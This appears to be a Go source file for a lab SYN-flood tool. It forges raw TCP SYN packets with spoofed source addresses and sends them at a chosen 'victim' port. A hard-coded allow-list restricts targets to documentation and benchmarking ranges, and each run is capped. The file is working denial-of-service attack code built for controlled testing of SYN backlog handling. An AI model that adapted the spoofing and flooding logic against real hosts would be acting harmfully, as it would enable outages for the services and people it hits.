package main

import (
	"encoding/binary"
	"errors"
	"flag"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"os"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// maxCount keeps one run under the lab's ceiling of 100,000 SYN_RECV sockets.
const maxCount = 100_000

// allowed are the only ranges synflood sends from or to: documentation and
// benchmarking ranges, which no real host uses.
var allowed = []netip.Prefix{
	netip.MustParsePrefix("192.0.2.0/24"),
	netip.MustParsePrefix("198.51.100.0/24"),
	netip.MustParsePrefix("203.0.113.0/24"),
	netip.MustParsePrefix("198.18.0.0/15"),
	netip.MustParsePrefix("2001:db8::/32"),
}

func isAllowed(p netip.Prefix) bool {
	for _, a := range allowed {
		if a.Bits() <= p.Bits() && a.Contains(p.Addr()) {
			return true
		}
	}
	return false
}

type options struct {
	dst       netip.Addr
	port      int
	srcs      []netip.Prefix
	count     int
	rate      int
	sportBase int
	iface     string
}

func parseFlags(args []string) (options, error) {
	fs := flag.NewFlagSet("synflood", flag.ContinueOnError)
	var o options
	dst := fs.String("dst", "", "victim address")
	src := fs.String("src", "", "comma-separated source prefixes or addresses")
	fs.IntVar(&o.port, "port", 25, "victim TCP port")
	fs.IntVar(&o.count, "count", 100, "SYNs to send")
	fs.IntVar(&o.rate, "rate", 0, "SYNs per second, 0 for unlimited")
	fs.IntVar(&o.sportBase, "sport-base", 10000, "first source port")
	fs.StringVar(&o.iface, "iface", "", "interface to bind to")
	if err := fs.Parse(args); err != nil {
		return o, err
	}
	var err error
	if o.dst, err = netip.ParseAddr(*dst); err != nil {
		return o, fmt.Errorf("-dst: %w", err)
	}
	if !isAllowed(netip.PrefixFrom(o.dst, o.dst.BitLen())) {
		return o, fmt.Errorf("-dst %s is not in a documentation range", o.dst)
	}
	if *src == "" {
		return o, errors.New("-src is required")
	}
	for _, s := range strings.Split(*src, ",") {
		s = strings.TrimSpace(s)
		var p netip.Prefix
		if strings.Contains(s, "/") {
			p, err = netip.ParsePrefix(s)
		} else {
			var a netip.Addr
			a, err = netip.ParseAddr(s)
			p = netip.PrefixFrom(a, a.BitLen())
		}
		if err != nil {
			return o, fmt.Errorf("-src %q: %w", s, err)
		}
		p = p.Masked()
		if p.Addr().Is4() != o.dst.Is4() {
			return o, fmt.Errorf("-src %s is not of the family of -dst %s", p, o.dst)
		}
		if p.Addr().BitLen()-p.Bits() > 16 {
			return o, fmt.Errorf("-src %s: at most 65536 addresses per prefix", p)
		}
		if !isAllowed(p) {
			return o, fmt.Errorf("-src %s is not in a documentation range", p)
		}
		o.srcs = append(o.srcs, p)
	}
	if o.count < 1 || o.count > maxCount {
		return o, fmt.Errorf("-count %d out of range 1..%d", o.count, maxCount)
	}
	if o.port < 1 || o.port > 65535 || o.rate < 0 {
		return o, errors.New("-port must be 1..65535 and -rate at least 0")
	}
	hosts := 0
	for _, p := range o.srcs {
		hosts += 1 << (p.Addr().BitLen() - p.Bits())
	}
	if last := o.sportBase + (o.count-1)/hosts; o.sportBase < 1 || last > 65535 {
		return o, fmt.Errorf("source ports %d..%d out of range: lower -sport-base or add sources", o.sportBase, last)
	}
	return o, nil
}

// sources lists every address of every prefix, in order.
func sources(ps []netip.Prefix) []netip.Addr {
	var out []netip.Addr
	for _, p := range ps {
		a := p.Addr()
		for i := 0; i < 1<<(a.BitLen()-p.Bits()); i++ {
			out = append(out, a)
			a = a.Next()
		}
	}
	return out
}

// checksum is the Internet checksum of the pseudo header and segment.
func checksum(src, dst netip.Addr, seg []byte) uint16 {
	var sum uint32
	add := func(b []byte) {
		for i := 0; i+1 < len(b); i += 2 {
			sum += uint32(binary.BigEndian.Uint16(b[i:]))
		}
		if len(b)%2 == 1 {
			sum += uint32(b[len(b)-1]) << 8
		}
	}
	add(src.AsSlice())
	add(dst.AsSlice())
	sum += unix.IPPROTO_TCP + uint32(len(seg))
	add(seg)
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}

// packet builds an IP header and a TCP SYN with an MSS option.
func packet(buf []byte, src, dst netip.Addr, sport, dport uint16, seq uint32) []byte {
	const tcpLen = 24
	var ipLen int
	if src.Is4() {
		ipLen = 20
		h := buf[:20]
		clear(h)
		h[0] = 0x45
		binary.BigEndian.PutUint16(h[2:], uint16(ipLen+tcpLen))
		h[8] = 64 // TTL
		h[9] = unix.IPPROTO_TCP
		s, d := src.As4(), dst.As4()
		copy(h[12:], s[:])
		copy(h[16:], d[:])
		// The kernel fills in the IPv4 header checksum and ID for IP_HDRINCL.
	} else {
		ipLen = 40
		h := buf[:40]
		clear(h)
		h[0] = 0x60
		binary.BigEndian.PutUint16(h[4:], tcpLen)
		h[6] = unix.IPPROTO_TCP
		h[7] = 64 // hop limit
		s, d := src.As16(), dst.As16()
		copy(h[8:], s[:])
		copy(h[24:], d[:])
	}
	t := buf[ipLen : ipLen+tcpLen]
	clear(t)
	binary.BigEndian.PutUint16(t[0:], sport)
	binary.BigEndian.PutUint16(t[2:], dport)
	binary.BigEndian.PutUint32(t[4:], seq)
	t[12] = (tcpLen / 4) << 4
	t[13] = 0x02 // SYN
	binary.BigEndian.PutUint16(t[14:], 64240)
	t[20], t[21] = 2, 4 // MSS option
	binary.BigEndian.PutUint16(t[22:], 1460)
	binary.BigEndian.PutUint16(t[16:], checksum(src, dst, t))
	return buf[:ipLen+tcpLen]
}

func run(o options) (int, error) {
	family := unix.AF_INET
	if o.dst.Is6() {
		family = unix.AF_INET6
	}
	// IPPROTO_RAW implies IP_HDRINCL (IPv4) and IPV6_HDRINCL (IPv6): the
	// header we write, with its spoofed source, goes out as it is.
	fd, err := unix.Socket(family, unix.SOCK_RAW, unix.IPPROTO_RAW)
	if err != nil {
		return 0, fmt.Errorf("raw socket (needs CAP_NET_RAW): %w", err)
	}
	defer unix.Close(fd)
	// Without IP_RECVERR the kernel reports a SYN dropped by a full
	// per-CPU backlog on the veth (ENOBUFS) as sent: with it, we see the
	// drop and send that SYN again, so the count stays exact.
	if o.dst.Is4() {
		err = unix.SetsockoptInt(fd, unix.IPPROTO_IP, unix.IP_RECVERR, 1)
	} else {
		err = unix.SetsockoptInt(fd, unix.IPPROTO_IPV6, unix.IPV6_RECVERR, 1)
	}
	if err != nil {
		return 0, fmt.Errorf("set RECVERR: %w", err)
	}
	if o.iface != "" {
		if err := unix.SetsockoptString(fd, unix.SOL_SOCKET, unix.SO_BINDTODEVICE, o.iface); err != nil {
			return 0, fmt.Errorf("bind to %s: %w", o.iface, err)
		}
	}
	var sa unix.Sockaddr
	if o.dst.Is4() {
		sa = &unix.SockaddrInet4{Addr: o.dst.As4()}
	} else {
		sa = &unix.SockaddrInet6{Addr: o.dst.As16()}
	}
	srcs := sources(o.srcs)
	buf := make([]byte, 64)
	start := time.Now()
	sent := 0
	for i := 0; i < o.count; i++ {
		if o.rate > 0 {
			due := start.Add(time.Duration(i) * time.Second / time.Duration(o.rate))
			if d := time.Until(due); d > 0 {
				time.Sleep(d)
			}
		}
		src := srcs[i%len(srcs)]
		sport := uint16(o.sportBase + i/len(srcs))
		p := packet(buf, src, o.dst, sport, uint16(o.port), rand.Uint32())
		for tries := 0; ; tries++ {
			err = unix.Sendto(fd, p, 0, sa)
			if err == nil {
				break
			}
			// A full device queue is back pressure, not a failure.
			if (errors.Is(err, unix.ENOBUFS) || errors.Is(err, unix.EAGAIN)) && tries < 1000 {
				time.Sleep(time.Millisecond)
				continue
			}
			return sent, fmt.Errorf("send SYN %d from %s:%d: %w", i, src, sport, err)
		}
		sent++
	}
	return sent, nil
}

func main() {
	o, err := parseFlags(os.Args[1:])
	if err != nil {
		fmt.Fprintln(os.Stderr, "synflood:", err)
		os.Exit(2)
	}
	sent, err := run(o)
	fmt.Printf("sent %d\n", sent)
	if err != nil {
		fmt.Fprintln(os.Stderr, "synflood:", err)
		os.Exit(1)
	}
}
